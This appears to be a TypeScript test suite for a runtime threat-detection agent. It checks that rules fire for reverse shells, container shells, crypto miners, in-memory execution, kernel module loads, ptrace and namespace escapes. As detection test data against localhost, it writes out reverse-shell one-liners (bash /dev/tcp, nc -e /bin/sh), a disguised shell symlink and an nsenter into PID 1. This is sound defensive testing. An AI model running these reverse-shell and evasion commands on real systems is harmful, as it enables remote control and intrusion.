import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, copyFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { type AddressInfo, connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Alert } from './agent-process.ts';
import { alerted, attempt, shown } from './evasion/attempt.ts';
import {
  agent,
  away,
  containers,
  detected,
  fired,
  fires,
  folder,
  holdsAfterAll,
  missing,
  quiet,
  run,
  token,
  withoutContainers,
  withoutModules,
} from './rules-agent.ts';
import { TRIGGER } from './trigger.ts';

const SHELL = '/usr/bin/bash';

/** Several programs on one path may see the same socket: each is a detection, all of one rule. */
async function reverseShell(act: () => unknown): Promise<Alert[]> {
  const alerts = await agent.caused(act);
  assert.ok(alerts.length > 0);
  for (const { rule, priority } of alerts) assert.deepEqual([rule, priority], ['Reverse shell', 'Critical']);
  fired.add('Reverse shell');
  return alerts;
}

describe('Reverse shell', () => {
  let listener: Server;
  let port: number;

  before(async () => {
    listener = createServer((socket) =>
      socket
        .on('error', () => {})
        .resume()
        .end('exit\n'),
    );
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    port = (listener.address() as AddressInfo).port;
  });
  after(() => listener.close());

  async function finished(
    program: string,
    args: readonly string[],
    stdio: Parameters<typeof spawn>[2]['stdio'] = 'ignore',
  ): Promise<void> {
    await once(spawn(program, args, { stdio, timeout: 10_000 }), 'close');
  }

  test('bash with its own /dev/tcp', async () => {
    const alerts = await reverseShell(() =>
      finished(SHELL, ['-c', `bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]),
    );
    assert.equal(alerts[0]!.output_fields['proc.cmdline'], `bash -c bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
    assert.ok(
      alerts.some(
        ({ output_fields: fields }) =>
          fields['evt.type'] === 'dup2' && String(fields['fd.name']).endsWith(`->127.0.0.1:${port}`),
      ),
    );
    assert.ok(
      alerts.some(
        ({ output_fields: fields }) =>
          fields['evt.type'] === 'execve' &&
          fields['proc.stdin.type'] === 'ipv4' &&
          fields['proc.stdout.type'] === 'ipv4',
      ),
    );
  });

  test('a script that names no connection on its command line', async () => {
    const script = join(folder, 'script');
    writeFileSync(script, `exec 5<>/dev/tcp/127.0.0.1/${port}\nexec 0<&5 1>&5\n`);
    const alerts = await reverseShell(() => finished(SHELL, [script]));
    const { 'fd.name': connection, 'proc.exepath': executable, 'proc.cmdline': command } = alerts[0]!.output_fields;
    assert.match(String(connection), new RegExp(`^127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:${port}$`));
    assert.deepEqual([executable, command], [SHELL, `bash ${script}`]);
  });

  test('netcat that starts a shell', { skip: missing('/usr/bin/busybox') }, async () => {
    const alerts = await reverseShell(() =>
      finished('/usr/bin/busybox', ['nc', '127.0.0.1', String(port), '-e', '/bin/sh']),
    );
    const { 'proc.name': name, 'proc.stdin.type': input, 'container.id': container } = alerts[0]!.output_fields;
    assert.deepEqual({ name, input, container }, { name: 'sh', input: 'ipv4', container: 'host' });
  });

  test('a shell under another name that is given a socket', async () => {
    const disguised = join(folder, 'innocent');
    symlinkSync('/usr/bin/dash', disguised);
    const socket = connect(port, '127.0.0.1');
    await once(socket, 'connect');
    const alerts = await reverseShell(() => finished(disguised, ['-c', 'true'], [socket, 'ignore', 'ignore']));
    socket.destroy();
    const { 'proc.name': name, 'proc.exepath': executable, 'evt.type': type } = alerts[0]!.output_fields;
    assert.deepEqual({ name, executable, type }, { name: 'innocent', executable: '/usr/bin/dash', type: 'execve' });
  });

  test('not a shell on a pipe, nor another program on a socket', async () => {
    await quiet(() => execFileSync('sh', ['-c', 'cat'], { input: 'text' }));
    const socket = connect(port, '127.0.0.1');
    await once(socket, 'connect');
    await quiet(() => finished('/bin/true', [], [socket, socket, 'ignore']));
    socket.destroy();
  });

  test('not a shell that sees whether a port answers, or asks over a descriptor of its own', async () => {
    const script = join(folder, 'asks');
    writeFileSync(
      script,
      `(echo -n > /dev/tcp/127.0.0.1/${port})\nexec 5<>/dev/tcp/127.0.0.1/${port}\nread -r -u 5 answer\n`,
    );
    await quiet(() => finished(SHELL, [script]));
    await quiet(() => finished(SHELL, ['-c', `: > /dev/tcp/127.0.0.1/${port}`]));
  });
});

describe('Interactive shell in a container', { skip: withoutContainers }, () => {
  test('a shell with a terminal, and one that joins a running container', async () => {
    let id = '';
    const inside = (alert: Alert) => assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
    const started = await detected(
      'Interactive shell in a container',
      'Notice',
      () => {
        ({ id } = containers.run(['sh', '-c', 'true'], { terminal: true }));
      },
      {
        'proc.name': 'sh',
        'proc.exepath': '/bin/busybox',
        'proc.cmdline': 'sh -c true',
        'proc.pname': 'runc',
        'proc.tty': 0x8800,
      },
    );
    inside(started);
    id = containers.start();
    const joined = await detected(
      'Interactive shell in a container',
      'Notice',
      () => containers.exec(id, ['sh', '-c', 'true'], { terminal: true }),
      { 'proc.cmdline': 'sh -c true', 'proc.pname': 'runc' },
    );
    inside(joined);
    containers.stop(id);
  });

  test('not without a terminal, not another program, not on the host', async () => {
    await quiet(() => containers.run(['sh', '-c', 'cat /etc/passwd']));
    await quiet(() => containers.run(['cat', '/etc/passwd'], { terminal: true }));
    await quiet(() => run('script', '-qc', 'sh -c true', '/dev/null'));
  });
});

describe('Crypto miner', () => {
  test('by its name', async () => {
    const miner = join(folder, 'xmrig');
    copyFileSync('/bin/true', miner);
    await fires('Crypto miner started by name', 'Critical', () => run(miner), {
      'proc.name': 'xmrig',
      'proc.exepath': miner,
    });
    await quiet(() => run('cat', miner));
  });

  test('by its pool, under whatever name', async () => {
    const argument = 'stratum+tcp://pool.example:3333';
    await fires('Crypto miner started for a pool', 'Critical', () => run('/bin/true', '-o', argument), {
      'proc.cmdline': `true -o ${argument}`,
      'proc.exepath': '/usr/bin/true',
    });
    await quiet(() => run('grep', argument, '/etc/hostname'));
  });
});

describe('Execution from memory', () => {
  const RULE = 'Execution from memory';

  attempt(24, 'a program in memory (memfd) is executed', {}, async () => {
    const alert = await detected(RULE, 'Critical', () => run(TRIGGER, 'memfd-exec', '/bin/true'), {
      'proc.exepath': 'memfd:copy',
      'proc.pname': 'node-MainThread',
      'container.id': 'host',
    });
    return alerted(alert, 'proc.exepath');
  });
  attempt(24, 'a program in /dev/shm is executed', {}, async () => {
    const path = `/dev/shm/${token}`;
    copyFileSync('/bin/true', path);
    chmodSync(path, 0o755);
    const act = away(path, () => run(path));
    await detected(RULE, 'Critical', act, { 'proc.exepath': path });
    return shown(`*${RULE}* \`proc.exepath=/dev/shm/…\``);
  });
  test('in a container', { skip: withoutContainers }, async () => {
    const act = () =>
      containers.run([
        'sh',
        '-c',
        'cp /bin/trigger /dev/shm/x; /dev/shm/x nothing; trigger memfd-exec /bin/trigger nothing',
      ]);
    const alerts = await agent.caused(act);
    assert.deepEqual(
      alerts.map(({ rule, output_fields: fields }) => [rule, fields['proc.exepath']]),
      [
        [RULE, '/dev/shm/x'],
        [RULE, 'memfd:copy'],
      ],
    );
  });
  attempt([5, 24], 'a program in a detached mount (open_tree, fsmount) is executed', {}, async () => {
    const expected = { 'proc.exepath': 'detached:/usr/bin/true', 'proc.name': 'true' };
    const act = () => run(TRIGGER, 'detached-exec', '/bin/true');
    return alerted(await detected(RULE, 'Critical', act, expected), 'proc.exepath');
  });
  test('not from a disk', () => quiet(() => run(TRIGGER, 'nothing')));
});

describe('Package manager in a container', { skip: withoutContainers }, () => {
  test('one that is started there', async () => {
    let id = '';
    const alert = await detected(
      'Package manager in a container',
      'Notice',
      () => {
        ({ id } = containers.run(['sh', '-c', 'apk nothing; true']));
      },
      { 'proc.name': 'apk', 'proc.exepath': '/sbin/apk', 'proc.pname': 'sh' },
    );
    assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
  });
  test('not on the host', () => quiet(() => run('dpkg', '--version')));
});

describe('Kernel modules', () => {
  const RULE = 'Kernel module loaded by an unusual program';

  test('an unusual program that loads one, or tries to', async () => {
    const module = join(folder, 'hidden.ko');
    writeFileSync(module, 'no module');
    const how = { 'proc.exepath': TRIGGER, 'container.id': 'host' };
    const first = await detected(RULE, 'Critical', () => run(TRIGGER, 'init_module', ''), {
      ...how,
      'evt.type': 'init_module',
    });
    assert.notEqual(first.output_fields['evt.res'], 'SUCCESS');
    await fires(RULE, 'Critical', () => run(TRIGGER, 'finit_module', module, ''), {
      ...how,
      'fd.name': module,
      'evt.type': 'finit_module',
    });
  });

  test('out of a container', { skip: withoutContainers }, async () => {
    await fires(RULE, 'Critical', () => containers.run(['trigger', 'init_module', '']), {
      'proc.exepath': '/bin/trigger',
    });
  });

  test('not one that is removed', () => quiet(() => run(TRIGGER, 'delete_module', 'absent')));

  test('the module tool of the system', { skip: withoutModules }, async () => {
    run('modprobe', '-r', 'dummy');
    await fires('Kernel module loaded', 'Notice', () => run('modprobe', 'dummy'), { 'proc.cmdline': 'modprobe dummy' });
    run('modprobe', '-r', 'dummy');
  });
});

describe('ptrace', () => {
  attempt(36, 'a program attaches to another by ptrace', {}, async () => {
    const alert = await detected('Process taken over by ptrace', 'Warning', () => run(TRIGGER, 'ptrace-attach'), {
      'evt.arg.request': 'PTRACE_ATTACH',
      'proc.exepath': TRIGGER,
    });
    assert.ok(Number(alert.output_fields['evt.arg.pid']) > 0);
    return alerted(alert, 'evt.arg.request', 'proc.exepath');
  });

  test('a debugger of the system', { skip: missing('/usr/bin/strace') }, async () => {
    const target = spawn('sleep', ['60']);
    const alerts = await agent.caused(async () => {
      const strace = spawn('strace', ['-p', String(target.pid)], { stdio: ['ignore', 'ignore', 'pipe'] });
      await once(strace.stderr, 'data');
      target.kill();
      await once(strace, 'close');
    });
    // it first tries on a child of its own what the kernel can do
    for (const { rule, priority } of alerts)
      assert.deepEqual([rule, priority], ['Debugger attached to a process', 'Notice']);
    const { 'evt.arg.pid': pid, 'evt.arg.request': request, 'proc.exepath': executable } = alerts.at(-1)!.output_fields;
    assert.deepEqual([pid, request, executable], [target.pid, 'PTRACE_SEIZE', '/usr/bin/strace']);
    fired.add('Debugger attached to a process');
  });

  test('not who lets itself be traced, not an attempt in vain', async () => {
    await quiet(() => run(TRIGGER, 'ptrace-traceme'));
    await quiet(() => run(TRIGGER, 'ptrace-attach-absent'));
  });
});

describe('Namespace left or entered', () => {
  const RULE = 'Namespace left or entered';

  attempt(35, 'a process in a container enters or makes a namespace', { skip: withoutContainers }, async () => {
    const alert = await detected(RULE, 'Warning', () => containers.run(['trigger', 'unshare', '0x10000000']), {
      'evt.type': 'unshare',
      'evt.arg.flags': 'CLONE_NEWUSER',
      'proc.exepath': '/bin/trigger',
    });
    await fires(
      RULE,
      'Warning',
      () => containers.run(['trigger', 'setns', '/proc/self/ns/uts', '0'], { capabilities: ['CAP_SYS_ADMIN'] }),
      { 'evt.type': 'setns' },
    );
    await quiet(() => containers.run(['trigger', 'unshare', '0x400']));
    return alerted(alert, 'evt.type', 'evt.arg.flags');
  });

  test('those of the first process of the machine', async () => {
    await fires(RULE, 'Warning', () => run('nsenter', '--target', '1', '--mount', 'true'), {
      'proc.exepath': '/usr/bin/nsenter',
      'proc.cmdline': 'nsenter --target 1 --mount true',
    });
    await fires(RULE, 'Warning', () => run('nsenter', '-mt1', 'true'), { 'proc.cmdline': 'nsenter -mt1 true' });
    await quiet(() => run('nsenter', '--target', String(process.pid), '--mount', 'true'));
  });

  test('not on the host', () => quiet(() => run('unshare', '--mount', 'true')));
});

describe('Container connects to an unexpected port', { skip: withoutContainers }, () => {
  // the address of a documentation network, which lies on the container's own loopback
  const connecting = (address: string, call: string[]) =>
    containers.run(['sh', '-c', `ip link set lo up; ip addr add ${address}/24 dev lo; exec "$@"`, 'sh', ...call], {
      capabilities: ['CAP_NET_ADMIN'],
    });

  test('outside your networks', async () => {
    let id = '';
    const alert = await detected(
      'Container connects to an unexpected port',
      'Notice',
      () => {
        ({ id } = connecting('198.51.100.2', ['trigger', 'accept', 'v4:198.51.100.2:4444']));
      },
      { 'fd.rip': '198.51.100.2', 'fd.rport': 4444, 'fd.l4proto': 'tcp', 'proc.exepath': '/bin/trigger' },
    );
    assert.match(String(alert.output_fields['fd.name']), /^198\.51\.100\.2:\d+->198\.51\.100\.2:4444$/);
    assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
  });

  test('not an expected port, not inside, not in vain, not from the host', async () => {
    await quiet(() => connecting('198.51.100.2', ['trigger', 'accept', 'v4:198.51.100.2:443']));
    await quiet(() => connecting('10.1.2.3', ['trigger', 'accept', 'v4:10.1.2.3:4444']));
    await quiet(() => connecting('198.51.100.2', ['trigger', 'connect', 'v4:198.51.100.9:4444', '1']));
    await quiet(() => run(TRIGGER, 'connect', 'v4:198.51.100.2:4444', '2'));
  });
});

holdsAfterAll('processes');
